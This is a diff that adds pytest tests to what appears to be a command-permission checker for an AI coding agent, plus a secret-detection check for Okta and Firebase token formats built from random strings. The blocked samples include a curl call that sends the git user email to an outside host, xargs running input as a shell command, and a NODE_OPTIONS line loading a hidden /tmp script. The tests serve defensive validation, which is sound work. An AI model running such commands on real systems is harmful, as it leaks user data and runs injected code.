@@ -33,3 +33,39 @@ def test_download_into_an_interpreter_inside_an_argument_is_denied(command):
 ])
 def test_text_arguments_that_mention_a_pipeline_are_data(command):
     assert_not_denied(command)
+
+
+@pytest.mark.parametrize("command", [
+    "find . -name '*.log' -print0 | xargs -0 -I{} sh -c 'gzip -9 \"$1\"' _ {}",
+    "git ls-files -z '*.sh' | xargs -0 -I% bash -c 'shellcheck \"$1\"' sh %",
+    "aws s3 cp dist/app.zip s3://bucket/app-$(git rev-parse --short HEAD).zip",
+    "curl -fsS -T dist/app.tgz https://artifacts.example.com/app-$(git describe --tags --always).tgz",
+    "export NODE_OPTIONS=--max-old-space-size=4096",
+])
+def test_literal_commands_with_data_from_input_pass(command):
+    assert_not_denied(command)
+
+
+@pytest.mark.parametrize("command", [
+    "find . -name '*.log' | xargs -I{} sh -c '{}'",
+    "find . | xargs -I{} sh -c '{} --version' _ {}",
+    "curl https://x.example/$(git config user.email)",
+    "export NODE_OPTIONS='--require /tmp/.h.js'",
+])
+def test_commands_or_data_from_elsewhere_still_ask(command):
+    from test_default_pack_bypass import decision_of
+    assert decision_of(command).get("permissionDecision") in ("ask", "deny"), command
+
+
+def test_okta_and_fcm_token_formats_are_found():
+    import random
+    import string
+    from claude_rego.facts.secrets import find
+    rnd = random.Random(12)
+    chars = string.ascii_letters + string.digits
+    okta = "00" + "".join(rnd.choice(chars) for _ in range(40))
+    fcm = "AAAA" + "".join(rnd.choice(chars) for _ in range(7)) + ":APA91b" + "".join(rnd.choice(chars + "_-") for _ in range(134))
+    assert {f["kind"] for f in find("Authorization: SSWS " + okta)} >= {"Okta API token"}
+    assert {f["kind"] for f in find("OKTA_API_TOKEN=" + okta)} >= {"Okta API token"}
+    assert {f["kind"] for f in find("FCM_SERVER_KEY=" + fcm)} >= {"Firebase Cloud Messaging key"}
+    assert not [f for f in find("request " + okta) if f["kind"] == "Okta API token"]
